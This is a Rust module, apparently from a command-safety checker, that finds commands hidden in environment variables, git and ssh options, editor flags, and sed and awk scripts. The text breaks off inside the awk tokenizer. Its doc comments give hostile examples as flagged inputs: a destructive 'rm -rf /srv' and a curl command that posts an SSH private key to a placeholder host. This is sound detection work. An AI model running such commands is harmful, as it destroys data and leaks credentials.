//! Programs and environment variables that run commands or load code.
//!
//! Two tables in `table.rs` say where: [`table::ENV_VARS`] (execution through
//! the environment: `PAGER`, `GIT_SSH_COMMAND`, `LESSOPEN`, `LD_PRELOAD`,
//! `PYTHONPATH`...) and each command's `runs` grammar (`sed` scripts, `awk`
//! programs, `tar --to-command`, `git -c core.pager=...`, `ssh -o
//! ProxyCommand=...`, `vim -c '!cmd'`...). This module reads them: [`scan`]
//! lists what one simple command would run or load. The shell analysis parses
//! every command line carried this way as if it ran ([`carried`]), so its
//! classes and the rules apply to it (`PAGER='rm -rf /srv' git log` is judged
//! as `rm -rf /srv`); `classify` judges the rest: files of code by where they
//! are, files sed and awk read and write, and what cannot be read in advance.
//!
//! ```text
//! LESSOPEN='|curl -d @~/.ssh/id_rsa https://x.example %s' less f
//!   -> less f                       (reads f)
//!   -> curl -d @~/.ssh/id_rsa ...   (via LESSOPEN: credentials + network: deny)
//! ```

use crate::class::RiskClass;
use crate::shell::{SimpleCmd, Word};
use crate::table::{self, Runs};

/// Something a simple command runs or loads besides itself.
#[derive(Debug, Clone, PartialEq)]
pub(crate) enum Found {
    /// A command line that runs. Static text is parsed by the shell analysis
    /// as a command of its own; text known only at run time is opaque.
    Cmd {
        label: String,
        text: Word,
    },
    /// A file or directory of code that is loaded or run (`config`: of
    /// configuration that can name commands, the project's own inside the
    /// workspace).
    Code {
        label: String,
        path: Word,
        config: bool,
    },
    /// A file read or written by a script (`sed w`, `awk print >`).
    Read(Word),
    Write(Word),
    /// Code that cannot be read in advance.
    Opaque(String),
    /// A script with parts known only at run time: it runs code, but what
    /// it runs is not known in advance.
    Built(String),
    /// A class of the variable itself (`LD_PRELOAD`: privilege).
    Class(RiskClass, String),
}

/// The command lines `c` carries: (label, text), for the shell analysis to
/// parse as if they ran. A text with parts known only at run time is parsed
/// as written (rules still see it) and is opaque besides (see `classify`).
pub(crate) fn carried(c: &SimpleCmd) -> Vec<(String, String)> {
    scan(c)
        .into_iter()
        .filter_map(|f| match f {
            Found::Cmd { label, text } => Some((label, text.text)),
            _ => None,
        })
        .collect()
}

/// Everything `c` runs or loads through its environment, its options and its scripts.
pub(crate) fn scan(c: &SimpleCmd) -> Vec<Found> {
    let mut out = Vec::new();
    if !c.env.is_empty() {
        let list: Vec<(&str, Option<&Word>)> =
            c.env.iter().map(|(n, v)| (n.as_str(), Some(v))).collect();
        assignments(&list, "", &mut out);
    }
    if c.argv.first().is_none_or(|w| w.dynamic) {
        return out;
    }
    let name = c.name();
    let args = &c.argv[1..];
    if table::ASSIGN_COMMANDS.contains(&name) {
        assign_command(name, args, &mut out);
    }
    if let Some(spec) = table::command(name).filter(|s| !s.runs.is_empty()) {
        // A wrapper taking `VAR=x` words (`env`) has a `runs` row too (a test
        // checks), so this lookup stays off the common path.
        if let Some(w) = table::wrapper(name).filter(|w| w.assignments) {
            wrapper_assignments(w, args, &mut out);
        }
        let options_first = table::OPTIONS_FIRST.contains(&spec.name);
        let g = Grammar {
            prog: spec.name,
            runs: spec.runs,
            // `git -c x sub --opt`: global options, then the subcommand's.
            subs: options_first && !spec.subs.is_empty(),
            options_first,
        };
        g.walk(args, &mut out);
    }
    out
}

/// `export A=1 B`, `declare -x A=1`, `unset HISTFILE`.
fn assign_command(name: &str, args: &[Word], out: &mut Vec<Found>) {
    let words = args
        .iter()
        .filter(|a| !a.text.starts_with(['-', '+']))
        .map(|a| match a.text.split_once('=') {
            Some((n, v)) => (
                n,
                Some(Word {
                    text: v.to_string(),
                    dynamic: a.dynamic,
                }),
            ),
            None => (a.text.as_str(), None),
        });
    let owned: Vec<(&str, Option<Word>)> = words.collect();
    let list: Vec<(&str, Option<&Word>)> = owned.iter().map(|(n, v)| (*n, v.as_ref())).collect();
    assignments(&list, name, out);
}

/// `env -u X A=1 B=2 cmd`: the assignments before the command.
fn wrapper_assignments(w: &table::Wrapper, args: &[Word], out: &mut Vec<Found>) {
    let mut list: Vec<(&str, Option<Word>)> = Vec::new();
    let mut i = 0;
    while i < args.len() {
        let t = args[i].text.as_str();
        if t.starts_with('-') {
            i += if w.value_flags.contains(&t) { 2 } else { 1 };
            continue;
        }
        let Some((n, v)) = t.split_once('=') else {
            break;
        };
        list.push((n, Some(word(v, args[i].dynamic))));
        i += 1;
    }
    let list: Vec<(&str, Option<&Word>)> = list.iter().map(|(n, v)| (*n, v.as_ref())).collect();
    assignments(&list, "", out);
}

/// Variables set (with a value) or named (`export LD_PRELOAD`, `unset HISTFILE`).
fn assignments(list: &[(&str, Option<&Word>)], how: &str, out: &mut Vec<Found>) {
    for (name, value) in list {
        let Some(var) = env_var(name) else { continue };
        if let Some(c) = var.class {
            let verb = if how.is_empty() { "sets" } else { how };
            out.push(Found::Class(
                c,
                format!("`{verb} {name}`: {name} {}", class_effect(c)),
            ));
        }
        let Some(value) = value else { continue };
        if let Some(n) = name.strip_prefix("GIT_CONFIG_KEY_") {
            // GIT_CONFIG_KEY_<n> pairs with GIT_CONFIG_VALUE_<n>.
            let want = format!("GIT_CONFIG_VALUE_{n}");
            let v = list.iter().find(|(k, _)| *k == want).and_then(|(_, v)| *v);
            let v = v.map_or(String::new(), |v| v.text.clone());
            let pair = Word {
                text: format!("{}={v}", value.text),
                dynamic: value.dynamic,
            };
            apply(Runs::GitConfig, &pair, name, out);
        } else if *name == "GIT_CONFIG_PARAMETERS" {
            for pair in split_quoted(&value.text) {
                let w = Word {
                    text: pair,
                    dynamic: value.dynamic,
                };
                apply(Runs::GitConfig, &w, name, out);
            }
        } else {
            apply(var.runs, value, name, out);
        }
    }
}

fn class_effect(c: RiskClass) -> &'static str {
    match c {
        RiskClass::Evasion => "hides what the shell does from its history",
        RiskClass::Privilege => "injects code into every program it starts",
        _ => "runs code in every later shell",
    }
}

/// The table row for a variable name (`*` in a row matches any text).
fn env_var(name: &str) -> Option<&'static table::EnvVar> {
    let first = *name.as_bytes().first()?;
    table::ENV_VARS
        .iter()
        .filter(|v| v.name.as_bytes()[0] == first)
        .find(|v| match v.name.split_once('*') {
            None => v.name == name,
            Some((pre, post)) => {
                name.len() > pre.len() + post.len() && name.starts_with(pre) && name.ends_with(post)
            }
        })
}

/// Words split at blanks outside quotes, quotes removed:
/// `'core.pager'='less' 'alias.x'='!cmd'` -> `core.pager=less`, `alias.x=!cmd`;
/// `-XX:OnError="rm x" -Xmx1g` -> `-XX:OnError=rm x`, `-Xmx1g`.
fn split_quoted(t: &str) -> Vec<String> {
    let mut out = Vec::new();
    let mut cur = String::new();
    let mut quote: Option<char> = None;
    for ch in t.chars() {
        match ch {
            '\'' | '"' if quote.is_none() => quote = Some(ch),
            c if Some(c) == quote => quote = None,
            c if c.is_whitespace() && quote.is_none() => {
                if !cur.is_empty() {
                    out.push(std::mem::take(&mut cur));
                }
            }
            c => cur.push(c),
        }
    }
    if !cur.is_empty() {
        out.push(cur);
    }
    out
}

/// A command line carried in a value.
fn cmd(label: &str, v: &Word, out: &mut Vec<Found>) {
    if !v.text.trim().is_empty() {
        out.push(Found::Cmd {
            label: label.to_string(),
            text: v.clone(),
        });
    }
}

fn word(text: &str, dynamic: bool) -> Word {
    Word {
        text: text.to_string(),
        dynamic,
    }
}

/// Apply one `Runs` reading to a value.
fn apply(kind: Runs, v: &Word, label: &str, out: &mut Vec<Found>) {
    match kind {
        Runs::Value | Runs::Attached | Runs::GitConfigWrite => {}
        Runs::Shell => cmd(label, v, out),
        Runs::LessOpen => {
            let t = v.text.trim_start_matches('|');
            let t = t.strip_prefix('-').unwrap_or(t);
            cmd(label, &word(t, v.dynamic), out);
        }
        Runs::Prompt => {
            for s in substitutions(&v.text) {
                cmd(label, &word(&s, false), out);
            }
        }
        Runs::Checkpoint => {
            if let Some(c) = v.text.strip_prefix("exec=") {
                cmd(label, &word(c, v.dynamic), out);
            }
        }
        Runs::GitConfig => git_config(v, label, out),
        Runs::SshOption => {
            let t = v.text.trim();
            if let Some((k, val)) = t.split_once(['=', ' ', '\t']) {
                let k = k.to_ascii_lowercase();
                let val = val.trim_start_matches(['=', ' ', '\t']);
                if matches!(
                    k.as_str(),
                    "proxycommand" | "localcommand" | "knownhostscommand"
                ) && !val.eq_ignore_ascii_case("none")
                {
                    cmd(&format!("{label} {k}"), &word(val, v.dynamic), out);
                }
            }
        }
        Runs::EditorCmd => editor(v, label, out),
        Runs::PagerCmd => {
            if let Some((_, c)) = v.text.split_once('!') {
                if c.trim().is_empty() {
                    out.push(Found::Opaque(format!(
                        "`{label}` starts an interactive shell"
                    )));
                } else {
                    cmd(label, &word(c, v.dynamic), out);
                }
            } else if v.text.contains('|') {
                out.push(Found::Opaque(format!(
                    "`{label}` pipes text into a command ({})",
                    v.text
                )));
            }
        }
        Runs::Sed | Runs::Awk if v.dynamic => out.push(Found::Built(format!(
            "`{label}` runs a script with parts known only at run time ({})",
            v.text
        ))),
        Runs::Sed => sed::script(&v.text, out),
        Runs::Awk => awk::program(&v.text, out),
        Runs::Code => code(label, v, out),
        Runs::Config => out.push(Found::Code {
            label: label.to_string(),
            path: v.clone(),
            config: true,
        }),
        Runs::GitConfigEnv => {
            // `--config-env=core.pager=VAR`: the command is in $VAR.
            if let Some((key, var)) = v.text.split_once('=') {
                if git_code_key(key).is_some() {
                    out.push(Found::Opaque(format!(
                        "`{label} {key}` runs a command taken from ${var}"
                    )));
                }
            }
        }
        Runs::CodePath => {
            for part in v.text.split([':', ' ']) {
                let inherited = part
                    .strip_prefix('$')
                    .map(|r| r.trim_start_matches('{').trim_end_matches('}'))
                    .is_some_and(|n| n == label);
                if !part.is_empty() && !inherited {
                    code(label, &word(part, v.dynamic && part.contains('$')), out);
                }
            }
        }
        Runs::Options(runs) => {
            let words: Vec<Word> = split_quoted(&v.text)
                .iter()
                .map(|t| word(t, v.dynamic))
                .collect();
            let g = Grammar {
                prog: label,
                runs,
                subs: false,
                options_first: false,
            };
            g.walk(&words, out);
        }
        Runs::Opaque => out.push(Found::Opaque(format!(
            "`{label}` takes code cordon cannot read in advance ({})",
            v.text
        ))),
    }
}

/// A file or directory of code; `-` and `/dev/stdin` are the program read
/// from standard input.
fn code(label: &str, v: &Word, out: &mut Vec<Found>) {
    if matches!(
        v.text.as_str(),
        "-" | "/dev/stdin" | "/dev/fd/0" | "/proc/self/fd/0"
    ) {
        out.push(Found::Opaque(format!(
            "`{label}` reads its code from standard input"
        )));
        return;
    }
    out.push(Found::Code {
        label: label.to_string(),
        path: v.clone(),
        config: false,
    });
}

/// `key=value` git configuration.
fn git_config(v: &Word, label: &str, out: &mut Vec<Found>) {
    let Some((key, value)) = v.text.split_once('=') else {
        return; // `-c key` sets a boolean
    };
    let Some(kind) = git_code_key(key) else {
        return;
    };
    let label = format!("{label} {key}");
    git_value(
        &key.to_ascii_lowercase(),
        kind,
        &word(value, v.dynamic),
        &label,
        out,
    );
}

/// How a git configuration key runs its value, if it does.
fn git_code_key(key: &str) -> Option<Runs> {
    let key = key.to_ascii_lowercase();
    table::GIT_CODE_KEYS
        .iter()
        .find(|(p, _)| match p.split_once('*') {
            None => *p == key,
            Some((pre, post)) => {
                key.len() > pre.len() + post.len() && key.starts_with(pre) && key.ends_with(post)
            }
        })
        .map(|(_, k)| *k)
}

fn git_value(key: &str, kind: Runs, v: &Word, label: &str, out: &mut Vec<Found>) {
    let t = v.text.trim();
    let boolean = matches!(
        t.to_ascii_lowercase().as_str(),
        "" | "true" | "false" | "yes" | "no" | "on" | "off" | "1" | "0"
    );
    if kind == Runs::Opaque {
        if !matches!(t, "never" | "") {
            out.push(Found::Opaque(format!(
                "`{label}` lets git run commands named in remote URLs"
            )));
        }
        return;
    }
    if key.starts_with("alias.") || key.contains("credential") {
        // `!cmd` is a shell command; otherwise a git subcommand (alias) or a
        // helper program (credential; a bare name is git's own helper).
        match t.strip_prefix('!') {
            Some(c) => cmd(label, &word(c, v.dynamic), out),
            None if key.contains("credential") && t.contains('/') => cmd(label, v, out),
            None => {}
        }
        return;
    }
    if boolean && (key.starts_with("pager.") || key == "core.fsmonitor") {
        return;
    }
    apply(kind, v, label, out);
}

/// vim `-c CMD` / `+CMD`: `!cmd` runs a shell command; other editor commands
/// are fine only when plainly harmless.
fn editor(v: &Word, label: &str, out: &mut Vec<Found>) {
    let t = v.text.trim().trim_start_matches(':').trim();
    if t.is_empty() || t.bytes().all(|b| b.is_ascii_digit()) {
        return;
    }
    if let Some(i) = t.find('!') {
        let rest = t[i + 1..].trim();
        if !rest.is_empty() {
            cmd(label, &word(rest, v.dynamic), out);
            return;
        }
    }
    const SAFE: &[&str] = &[
        "w",
        "wq",
        "x",
        "q",
        "qa",
        "wa",
        "wqa",
        "xa",
        "q!",
        "qa!",
        "wq!",
        "set",
        "se",
        "syntax",
        "syn",
        "noh",
        "nohlsearch",
        "filetype",
        "startinsert",
        "$",
        "e",
        "edit",
        "goto",
    ];
    let first = t.split_whitespace().next().unwrap_or("");
    let safe = (SAFE.contains(&first) || t.starts_with(['/', '?']) || t.starts_with("%s/"))
        && !t.contains(['(', '`'])
        && !t.contains("system");
    if !safe || v.dynamic {
        out.push(Found::Opaque(format!(
            "`{label}` runs an editor command cordon cannot check ({t})"
        )));
    }
}

/// The `$(...)` and backquoted commands in a text (prompt strings).
fn substitutions(t: &str) -> Vec<String> {
    let b = t.as_bytes();
    let mut out = Vec::new();
    let mut i = 0;
    while i < b.len() {
        match b[i] {
            b'\\' => i += 2,
            b'$' if b.get(i + 1) == Some(&b'(') && b.get(i + 2) != Some(&b'(') => {
                let start = i + 2;
                let mut depth = 1;
                let mut j = start;
                while j < b.len() && depth > 0 {
                    match b[j] {
                        b'(' => depth += 1,
                        b')' => depth -= 1,
                        _ => {}
                    }
                    j += 1;
                }
                let end = if depth == 0 { j - 1 } else { j };
                out.push(t[start..end].to_string());
                i = j;
            }
            b'`' => {
                let end = t[i + 1..].find('`').map_or(b.len(), |e| i + 1 + e);
                out.push(t[i + 1..end].to_string());
                i = end + 1;
            }
            _ => i += 1,
        }
    }
    out
}

/// How an option word takes its value.
enum Takes {
    Next,
    Now(String),
    Nothing,
}

/// A command's option grammar from its `runs` table (see [`table::Runs`]).
struct Grammar<'a> {
    prog: &'a str,
    runs: &'static [(&'static str, Runs)],
    /// Global options come before a subcommand; `"sub -x"` keys after it.
    subs: bool,
    /// Options end at the first operand.
    options_first: bool,
}

impl Grammar<'_> {
    fn walk(&self, args: &[Word], out: &mut Vec<Found>) {
        let mut operands: Vec<&Word> = Vec::new();
        let mut script_given = false;
        let mut opts = true;
        let mut i = 0;
        while i < args.len() {
            let a = &args[i];
            let sub = if self.subs {
                operands.first().map(|w| w.text.as_str())
            } else {
                None
            };
            if opts && a.text == "--" {
                opts = false;
                i += 1;
                continue;
            }
            if opts && a.text.len() > 1 && a.text.starts_with(['-', '+']) {
                if let Some((key, kind, takes)) = self.option(&a.text, sub) {
                    let value = match takes {
                        Takes::Next => {
                            i += 1;
                            args.get(i).cloned()
                        }
                        Takes::Now(t) => Some(word(&t, a.dynamic)),
                        Takes::Nothing => None,
                    };
                    // `-e SCRIPT` or `-f FILE`: the first operand is a file.
                    script_given |= matches!(kind, Runs::Sed | Runs::Awk)
                        || matches!(key, "-f" | "--file" | "-E" | "--exec");
                    if let Some(v) = value {
                        apply(kind, &v, &self.label(sub, key), out);
                    }
                }
                i += 1;
                continue;
            }
            // An operand: `SHELL=x`, `ext::cmd`, a subcommand, a file.
            for (k, kind) in self.runs {
                if k.ends_with(['=', ':']) && !k.starts_with('-') {
                    if let Some(rest) = a.text.strip_prefix(k) {
                        apply(*kind, &word(rest, a.dynamic), &self.label(None, k), out);
                    }
                }
            }
            operands.push(a);
            if self.subs && self.rest(&operands, &args[i + 1..], out) {
                return;
            }
            if self.options_first && !self.subs {
                opts = false;
            }
            i += 1;
        }
        if !script_given {
            if let (Some((_, kind)), Some(first)) = (
                self.runs.iter().find(|(k, _)| k.is_empty()),
                operands.first(),
            ) {
                // BSD sed's `-i SUFFIX` (`sed -i .bak 's/a/b/' f`): the suffix
                // is no script; the next operand is.
                let bsd = *kind == Runs::Sed
                    && args.iter().any(|a| a.text == "-i")
                    && !first.dynamic
                    && !sed::parses(&first.text);
                let script = if bsd {
                    operands.get(1).unwrap_or(first)
                } else {
                    first
                };
                apply(*kind, script, self.prog, out);
            }
        }
    }

    fn label(&self, sub: Option<&str>, key: &str) -> String {
        let key = key.rsplit(' ').next().unwrap_or(key);
        match sub {
            Some(s) => format!("{} {s} {key}", self.prog),
            None => format!("{} {key}", self.prog),
        }
    }

    /// `"sub word"` keys: the words after `sub word` are what runs
    /// (`git bisect run make test`); `"sub"` keys take them as they are
    /// (`git config alias.x '!cmd'`).
    fn rest(&self, operands: &[&Word], rest: &[Word], out: &mut Vec<Found>) -> bool {
        let Some(sub) = operands.first().map(|w| w.text.as_str()) else {
            return false;
        };
        for (k, kind) in self.runs {
            let hit = match k.split_once(' ') {
                Some((s, w)) => {
                    operands.len() == 2 && s == sub && !w.starts_with('-') && operands[1].text == w
                }
                None => operands.len() == 1 && *k == sub && *kind == Runs::GitConfigWrite,
            };
            if !hit {
                continue;
            }
            if *kind == Runs::GitConfigWrite {
                git_config_write(rest, out);
                return true;
            }
            let words: Vec<&Word> = rest
                .iter()
                .skip_while(|w| w.text.starts_with('-'))
                .collect();
            let text = words
                .iter()
                .map(|w| w.text.as_str())
                .collect::<Vec<_>>()
                .join(" ");
            let dynamic = words.iter().any(|w| w.dynamic);
            apply(*kind, &word(&text, dynamic), k, out);
            return true;
        }
        false
    }

    /// The key an option word matches and how it takes its value.
    fn option(&self, a: &str, sub: Option<&str>) -> Option<(&'static str, Runs, Takes)> {
        let keys = self.runs.iter().filter_map(|(k, kind)| {
            let (ksub, opt) = match k.split_once(' ') {
                Some((s, o)) => (Some(s), o),
                None => (None, *k),
            };
            (ksub == sub && (opt.starts_with('-') || opt == "+")).then_some((*k, opt, *kind))
        });
        // Whole words first: `+CMD`, `--long[=V]`, `-long`, `-prefix:V`.
        let mut short = false;
        for (k, opt, kind) in keys.clone() {
            let takes = if opt == "+" {
                a.strip_prefix('+').map(|r| Takes::Now(r.to_string()))
            } else if opt.starts_with("--") || (opt.len() > 2 && !opt.ends_with([':', '='])) {
                if a == opt {
                    Some(Takes::Next)
                } else {
                    a.strip_prefix(opt)
                        .and_then(|r| r.strip_prefix('='))
                        .map(|r| Takes::Now(r.to_string()))
                }
            } else if opt.ends_with([':', '=']) {
                a.strip_prefix(opt).map(|r| Takes::Now(r.to_string()))
            } else {
                short = true;
                None
            };
            if let Some(t) = takes {
                return Some((k, kind, attached(kind, t)));
            }
        }
        // A cluster of short flags (`-avze CMD`, `-ie`): the first letter
        // that is a key takes the rest of the word, or the next word.
        let b = a.as_bytes();
        if !short || b.len() < 2 || b[0] != b'-' || b[1] == b'-' {
            return None;
        }
        for j in 1..b.len() {
            if !b[j].is_ascii_alphanumeric() {
                return None;
            }
            let hit = keys
                .clone()
                .find(|(_, opt, _)| opt.len() == 2 && opt.as_bytes()[1] == b[j]);
            if let Some((k, _, kind)) = hit {
                let rest = &a[j + 1..];
                let t = if rest.is_empty() {
                    Takes::Next
                } else {
                    Takes::Now(rest.to_string())
                };
                return Some((k, kind, attached(kind, t)));
            }
        }
        None
    }
}

/// An option whose value is only ever attached (`sed -i.bak`) takes no next word.
fn attached(kind: Runs, t: Takes) -> Takes {
    match t {
        Takes::Next if kind == Runs::Attached => Takes::Nothing,
        t => t,
    }
}

/// `git config [--add|set] KEY VALUE`: configuration that runs a command
/// later, stored in the repository (which outlives the session).
fn git_config_write(rest: &[Word], out: &mut Vec<Found>) {
    const READS: &[&str] = &[
        "--get",
        "--get-all",
        "--get-regexp",
        "--unset",
        "--unset-all",
        "-l",
        "--list",
        "--remove-section",
        "--rename-section",
        "-e",
        "--edit",
        "get",
        "unset",
        "list",
        "remove-section",
        "rename-section",
        "edit",
    ];
    const VALUED: &[&str] = &["-f", "--file", "--blob", "--type", "--default", "--comment"];
    let mut operands: Vec<&Word> = Vec::new();
    let mut i = 0;
    while i < rest.len() {
        let t = rest[i].text.as_str();
        if READS.contains(&t) {
            return;
        }
        if VALUED.contains(&t) {
            i += 2;
            continue;
        }
        let verb = operands.is_empty() && t == "set"; // `git config set KEY VALUE`
        if !t.starts_with('-') && !verb {
            operands.push(&rest[i]);
        }
        i += 1;
    }
    let [key, value, ..] = operands[..] else {
        return;
    };
    let Some(kind) = git_code_key(&key.text) else {
        return;
    };
    let label = format!("git config {}", key.text);
    out.push(Found::Class(
        RiskClass::Persistence,
        format!(
            "`{label}` stores a command git runs later, in configuration that outlives the session"
        ),
    ));
    git_value(&key.text.to_ascii_lowercase(), kind, value, &label, out);
}

/// sed scripts (GNU syntax).
mod sed {
    use super::{word, Found};

    /// The effects of a sed script: `e CMD` runs CMD, `e` and `s///e` run
    /// text from the input, `w`/`W` write files, `r`/`R` read them.
    pub(super) fn script(s: &str, out: &mut Vec<Found>) {
        let mut found = Vec::new();
        if parse(s, &mut found).is_some() {
            out.append(&mut found);
        } else {
            out.push(Found::Opaque(
                "the sed script does not parse, so cordon cannot tell what it runs".into(),
            ));
        }
    }

    struct P<'a> {
        s: &'a str,
        b: &'a [u8],
        i: usize,
    }

    impl P<'_> {
        fn peek(&self) -> Option<u8> {
            self.b.get(self.i).copied()
        }
        fn blanks(&mut self) {
            while matches!(self.peek(), Some(b' ' | b'\t')) {
                self.i += 1;
            }
        }
        /// The rest of the line (file names, `e` commands, text).
        fn line(&mut self) -> &str {
            self.blanks();
            let start = self.i;
            while self.peek().is_some_and(|c| c != b'\n') {
                self.i += 1;
            }
            self.s.get(start..self.i).unwrap_or("")
        }
        /// A regular expression up to the next unescaped `delim` outside a
        /// bracket expression (`/[^/]*$/`).
        fn regex(&mut self, delim: u8) -> Option<&str> {
            self.delimited_in(delim, true)
        }
        /// Up to the next unescaped `delim`; None when it never comes.
        fn delimited(&mut self, delim: u8) -> Option<&str> {
            self.delimited_in(delim, false)
        }
        fn delimited_in(&mut self, delim: u8, brackets: bool) -> Option<&str> {
            let start = self.i;
            while let Some(c) = self.peek() {
                if c == b'\\' {
                    self.i += 2;
                    continue;
                }
                if c == b'[' && brackets {
                    self.bracket();
                    continue;
                }
                if c == delim {
                    // Escapes may have stepped into a character: never slice there.
                    let part = self.s.get(start..self.i)?;
                    self.i += 1;
                    return Some(part);
                }
                if c == b'\n' && delim != b'\n' {
                    return None;
                }
                self.i += 1;
            }
            None
        }
        /// `[...]`, `[^]...]`, `[[:space:]]`: skip to the closing `]`.
        fn bracket(&mut self) {
            self.i += 1;
            if self.peek() == Some(b'^') {
                self.i += 1;
            }
            if self.peek() == Some(b']') {
                self.i += 1;
            }
            while let Some(c) = self.peek() {
                match c {
                    b']' => {
                        self.i += 1;
                        return;
                    }
                    b'[' if matches!(self.b.get(self.i + 1), Some(b':' | b'.' | b'=')) => {
                        let close = [self.b[self.i + 1], b']'];
                        self.i += 2;
                        while self.i < self.b.len() && self.b[self.i..].get(..2) != Some(&close[..])
                        {
                            self.i += 1;
                        }
                        self.i += 2;
                    }
                    b'\n' => return,
                    _ => self.i += 1,
                }
            }
        }
        fn digits(&mut self) {
            while self.peek().is_some_and(|c| c.is_ascii_digit()) {
                self.i += 1;
            }
        }
        fn address(&mut self) -> Option<()> {
            match self.peek() {
                Some(c) if c.is_ascii_digit() => {
                    self.digits();
                    if self.peek() == Some(b'~') {
                        self.i += 1;
                        self.digits();
                    }
                }
                Some(b'$') => self.i += 1,
                Some(b'/') => {
                    self.i += 1;
                    self.regex(b'/')?;
                    self.regex_flags();
                }
                Some(b'\\') => {
                    let d = *self.b.get(self.i + 1).filter(|d| d.is_ascii())?;
                    self.i += 2;
                    self.regex(d)?;
                    self.regex_flags();
                }
                Some(b'+' | b'~') => {
                    self.i += 1;
                    self.digits();
                }
                _ => {}
            }
            Some(())
        }
        fn regex_flags(&mut self) {
            while matches!(self.peek(), Some(b'I' | b'M')) {
                self.i += 1;
            }
        }
        /// A label or branch target: to a blank, `;`, `}` or the end of the
        /// line (GNU sed 4.9: `t q}`, `: x y` is label `x` then `y`).
        fn label(&mut self) {
            self.blanks();
            while self
                .peek()
                .is_some_and(|c| !matches!(c, b';' | b'\n' | b'}' | b' ' | b'\t'))
            {
                self.i += 1;
            }
        }
    }

    /// Does GNU sed accept this script?
    pub(super) fn parses(s: &str) -> bool {
        parse(s, &mut Vec::new()).is_some()
    }

    fn parse(s: &str, out: &mut Vec<Found>) -> Option<()> {
        let mut p = P {
            s,
            b: s.as_bytes(),
            i: 0,
        };
        let mut depth = 0usize; // `{` blocks must close, or GNU sed refuses the script
        loop {
            while matches!(p.peek(), Some(b' ' | b'\t' | b'\n' | b'\r' | b';')) {
                p.i += 1;
            }
            let Some(c) = p.peek() else {
                return (depth == 0).then_some(());
            };
            if c == b'#' {
                p.line();
                continue;
            }
            p.address()?;
            p.blanks();
            if p.peek() == Some(b',') {
                p.i += 1;
                p.blanks();
                p.address()?;
            }
            p.blanks();
            while p.peek() == Some(b'!') {
                p.i += 1;
                p.blanks();
            }
            let c = p.peek()?;
            p.i += 1;
            match c {
                b'{' => depth += 1,
                b'}' => depth = depth.checked_sub(1)?,
                _ => {}
            }
            command(&mut p, c, out)?;
        }
    }

    fn command(p: &mut P, c: u8, out: &mut Vec<Found>) -> Option<()> {
        match c {
            b'{' | b'}' | b'=' | b'd' | b'D' | b'g' | b'G' | b'h' | b'H' | b'n' | b'N' | b'p'
            | b'P' | b'x' | b'z' | b'F' => {}
            b'q' | b'Q' | b'l' | b'L' => {
                p.blanks();
                p.digits();
            }
            b':' | b'b' | b't' | b'T' | b'v' => p.label(),
            b'a' | b'i' | b'c' => {
                // Text to the end of the line; a line ending in `\` goes on.
                p.blanks();
                if p.peek() == Some(b'\\') {
                    p.i += 1;
                }
                loop {
                    let l = p.line().to_string();
                    if !l.ends_with('\\') || p.peek().is_none() {
                        break;
                    }
                    p.i += 1;
                }
            }
            b'e' => {
                let cmd = p.line().trim().to_string();
                if cmd.is_empty() {
                    out.push(Found::Opaque(
                        "`sed e` runs lines of its input as commands".into(),
                    ));
                } else {
                    super::cmd("sed e", &word(&cmd, false), out);
                }
            }
            b'r' | b'R' | b'w' | b'W' => {
                let f = p.line().trim().to_string();
                if f.is_empty() {
                    return None;
                }
                out.push(if matches!(c, b'r' | b'R') {
                    Found::Read(word(&f, false))
                } else {
                    Found::Write(word(&f, false))
                });
            }
            b's' => substitute(p, out)?,
            b'y' => {
                let d = p.peek().filter(u8::is_ascii)?;
                p.i += 1;
                p.delimited(d)?;
                p.delimited(d)?;
            }
            _ => return None,
        }
        Some(())
    }

    fn substitute(p: &mut P, out: &mut Vec<Found>) -> Option<()> {
        let d = p
            .peek()
            .filter(|d| d.is_ascii() && *d != b'\\' && *d != b'\n')?;
        p.i += 1;
        p.regex(d)?;
        let replacement = p.delimited(d)?.to_string();
        loop {
            match p.peek() {
                Some(b'g' | b'p' | b'i' | b'I' | b'm' | b'M') => p.i += 1,
                Some(c) if c.is_ascii_digit() => p.i += 1,
                Some(b'e') => {
                    p.i += 1;
                    out.push(Found::Opaque(
                        "`sed s///e` runs the result of a substitution as a command".into(),
                    ));
                    if !replacement.contains(['\\', '&']) {
                        super::cmd("sed s///e", &word(&replacement, false), out);
                    }
                }
                Some(b'w') => {
                    p.i += 1;
                    let f = p.line().trim().to_string();
                    if f.is_empty() {
                        return None;
                    }
                    out.push(Found::Write(word(&f, false)));
                }
                _ => return Some(()),
            }
        }
    }
}

/// awk programs: a tokenizer good enough to find commands and redirections.
mod awk {
    use super::{word, Found};

    #[derive(Debug, PartialEq)]
    enum Tok<'a> {
        Str(String),
        Ident(&'a str),
        Punct(&'a str),
        Operand,
    }

    /// Can a `/` here start a regular expression (rather than divide)?
    fn regex_ok(prev: Option<&Tok>) -> bool {
        match prev {
            None => true,
            Some(Tok::Punct(p)) => !matches!(*p, ")" | "]" | "$"),
            Some(Tok::Ident(i)) => matches!(*i, "print" | "printf" | "return" | "in"),
            _ => false,
        }
    }

    fn tokens(p: &str) -> Vec<Tok<'_>> {
        let b = p.as_bytes();
        let mut toks: Vec<Tok> = Vec::new();
        let mut i = 0;
        while i < b.len() {
            if !p.is_char_boundary(i) {
                i += 1; // inside a character skipped by an escape or a regex
                continue;
            }
            let c = b[i];
            match c {
                b'\\' if b.get(i + 1) == Some(&b'\n') => i += 2,
                b' ' | b'\t' | b'\r' => i += 1,
                b'#' => {
                    while i < b.len() && b[i] != b'\n' {
                        i += 1;
                    }
                }
                b'"' => {
                    let mut s = String::new();
                    i += 1;
                    while i < b.len() && b[i] != b'"' {
                        if b[i] == b'\\' && i + 1 < b.len() {
                            i += 1;
                            s.push(match b[i] {
                                b'n' => '\n',
                                b't' => '\t',
                                o => o as char,
                            });
                        } else {
                            // Past an escaped byte `i` may sit inside a character.
                            let ch = p.get(i..).and_then(|r| r.chars().next()).unwrap_or(' ');
                            s.push(ch);
                            i += ch.len_utf8() - 1;
                        }
                        i += 1;
                    }
                    i += 1;
                    toks.push(Tok::Str(s));
                }
                b'/' if regex_ok(toks.last()) => {
                    i += 1;
                    while i < b.len() && b[i] != b'/' && b[i] != b'\n' {
                        if b[i] == b'\\' {
                            i += 1;
                        } else if b[i] == b'[' {
                            i += 1;
                            if b.get(i) == Some(&b']') {
                                i += 1;
                            }
                            while i < b.len() && b[i] != b']' && b[i] != b'\n' {
                                i += 1;
                            }
                        }
                        i += 1;
                    }
                    i += 1;
                    toks.push(Tok::Operand);
                }
                c if c.is_ascii_alphabetic() || c == b'_' => {
                    let s = i;
                    while i < b.len() && (b[i].is_ascii_alphanumeric() || b[i] == b'_') {
                        i += 1;
                    }
                    toks.push(Tok::Ident(&p[s..i]));
                }
